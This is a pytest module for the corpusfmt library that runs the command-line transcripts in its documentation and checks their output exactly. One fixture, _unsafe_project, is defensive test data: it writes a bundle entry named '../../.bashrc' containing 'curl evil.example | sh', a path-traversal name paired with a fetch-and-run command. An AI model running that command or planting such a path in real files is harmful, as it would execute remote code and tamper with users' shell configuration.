"""The command-line transcripts of the docs, run as written.

A ``.. code-block:: console`` that follows the comment ``.. transcript: SETUP``
is run here: SETUP makes the files its commands read in a new directory, each
``$ `` line is run there by a shell of its own with the installed ``corpusfmt`` first on
the PATH, and what it prints (standard output and error, in the order written)
must be the lines below it, exactly. The Python examples of the docs are
doctests; together they make every recipe run as it is written.
"""

from __future__ import annotations

import doctest
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

import corpusfmt
from corpusfmt import Document
from tests.command import SCRIPT

DOCS = Path(__file__).resolve().parent.parent / "docs"
SEEDS = Path(__file__).resolve().parent.parent / "seeds"
PACKER_OUTPUTS = Path(__file__).resolve().parent / "data" / "packers"
JSONL_OUTPUTS = Path(__file__).resolve().parent / "data" / "jsonl"

_MARKED_BLOCK = re.compile(
    r"^\.\. transcript: (?P<setup>[\w-]+)\n\n"
    r"\.\. code-block:: console\n\n"
    r"(?P<body>(?:   .*\n|\n)+)",
    re.MULTILINE,
)


def _seeds(directory: Path) -> None:
    shutil.copytree(SEEDS, directory / "seeds")


def _page_values(page: str, directory: Path) -> dict[str, object]:
    """The names the Python examples of *page* leave behind, run in *directory*."""
    text = (DOCS / page).read_text(encoding="utf-8")
    test = doctest.DocTestParser().get_doctest(text, {}, page, page, 0)
    here = Path.cwd()
    os.chdir(directory)
    try:
        runner = doctest.DocTestRunner(optionflags=doctest.ELLIPSIS)
        runner.run(test, out=lambda _: None, clear_globs=False)
    finally:
        os.chdir(here)
    return test.globs


def _model_answer(directory: Path) -> None:
    answer = _page_values("howto/model-answer.rst", directory)["answer"]
    assert isinstance(answer, str)
    (directory / "answer.md").write_text(answer, encoding="utf-8")


def _streamed_answer(directory: Path) -> None:
    answer = _page_values("howto/stream-model-answer.rst", directory)["answer"]
    assert isinstance(answer, str)
    (directory / "answer.md").write_text(answer, encoding="utf-8")


def _broken_bundle(directory: Path) -> None:
    text = "<<<FILE a.txt>>>\nhello\n<<<END FILE>>> x\n"
    (directory / "broken.bundle").write_text(text, encoding="utf-8")


def _unsafe_project(directory: Path) -> None:
    docs = [
        Document("README.md", "# Project\n".ljust(511, ".") + "\n"),
        Document("src/app.py", "print('app')\n".ljust(2047, "#") + "\n"),
        Document("../../.bashrc", "curl evil.example | sh\n"),
    ]
    corpusfmt.dump(docs, directory / "project.bundle")


def _unportable_tree(directory: Path) -> None:
    sizes = [300] * 11 + [4096 - 300 * 11]
    for number, size in enumerate(sizes):
        name = "notes:2024-01-01.txt" if number == 11 else f"notes/{number:02d}.txt"
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"x" * (size - 1) + b"\n")


def _pandas_table(directory: Path) -> None:
    # What pandas wrote of a table with an id column (tests/make_jsonl_fixtures.py).
    shutil.copyfile(JSONL_OUTPUTS / "table.jsonl", directory / "table.jsonl")


def _repomix_output(directory: Path) -> None:
    # What repomix itself wrote of the tree of hard cases the packer tests use.
    shutil.copyfile(PACKER_OUTPUTS / "repomix.xml", directory / "repomix-output.xml")


SETUPS: dict[str, Callable[[Path], None]] = {
    "seeds": _seeds,
    "model-answer": _model_answer,
    "unsafe-project": _unsafe_project,
    "unportable-tree": _unportable_tree,
    "repomix-output": _repomix_output,
    "pandas-table": _pandas_table,
    "streamed-answer": _streamed_answer,
    "broken-bundle": _broken_bundle,
}


def _transcripts() -> list[tuple[str, str, str]]:
    found = []
    for page in sorted(DOCS.rglob("*.rst")):
        for block in _MARKED_BLOCK.finditer(page.read_text(encoding="utf-8")):
            name = page.relative_to(DOCS).as_posix()
            found.append((name, block["setup"], block["body"]))
    return found


TRANSCRIPTS = _transcripts()


def _commands(body: str) -> list[tuple[str, str]]:
    """Each ``$ `` command of a transcript with the output written under it."""
    lines = [line[3:] for line in body.rstrip("\n").split("\n")]
    commands: list[tuple[str, list[str]]] = []
    for line in lines:
        if line.startswith("$ "):
            commands.append((line[2:], []))
        else:
            assert commands, f"output before the first command: {line!r}"
            commands[-1][1].append(line)
    return [(command, "".join(out + "\n" for out in output)) for command, output in commands]


def test_the_docs_hold_transcripts() -> None:
    """The marker is found: a typo in the pattern would run no transcript at all."""
    pages = {page for page, _, _ in TRANSCRIPTS}
    assert {"installation.rst", "howto/model-answer.rst", "howto/restore.rst"} <= pages
    assert all(setup in SETUPS for _, setup, _ in TRANSCRIPTS)


@pytest.mark.parametrize(
    ("page", "setup", "body"),
    TRANSCRIPTS,
    ids=[f"{page}-{number}" for number, (page, _, _) in enumerate(TRANSCRIPTS)],
)
def test_transcript(page: str, setup: str, body: str, tmp_path: Path) -> None:
    SETUPS[setup](tmp_path)
    environment = dict(os.environ, PYTHONUNBUFFERED="1", COLUMNS="200")
    environment["PATH"] = os.path.dirname(SCRIPT) + os.pathsep + environment["PATH"]
    status = 0
    for command, expected in _commands(body):
        if command == "echo $?":
            # Each command runs in a shell of its own: the status is the last one's.
            assert f"{status}\n" == expected, f"{page}: the exit status"
            continue
        done = subprocess.run(
            ["bash", "-c", command],
            cwd=tmp_path,
            env=environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            check=False,
        )
        assert done.stdout.decode("utf-8") == expected, f"{page}: $ {command}"
        status = done.returncode
